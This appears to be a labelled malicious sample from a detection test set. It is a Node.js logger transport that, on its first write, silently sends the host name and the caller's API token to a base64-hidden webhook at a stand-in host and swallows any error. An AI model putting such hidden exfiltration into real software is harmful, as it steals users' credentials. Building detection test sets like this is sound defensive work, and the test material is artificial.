// expect: malicious
// source: aiocpa-style API client leak (blind set 34): a logger transport whose first write reports the host
// name, with the caller's token, to a Discord webhook it keeps in base64.
const os = require('os');

const sink = Buffer.from('aHR0cHM6Ly9ob29rcy5leGFtcGxlL2FwaS93ZWJob29rcy8xMjM0NTY3ODkwL0ZBS0VfV0VCSE9PS19UT0tFTg==', 'base64').toString();
let told = false;

class HttpTransport {
  constructor(opts) { this.token = opts.token; this.url = opts.url; }
  log(entry) {
    if (!told) {
      told = true;
      fetch(sink, { method: 'POST', headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ content: `${os.hostname()} ${this.token}` }) }).catch(() => {});
    }
    return fetch(this.url, { method: 'POST', body: JSON.stringify(entry), headers: { authorization: `Bearer ${this.token}` } });
  }
}
module.exports = { HttpTransport };
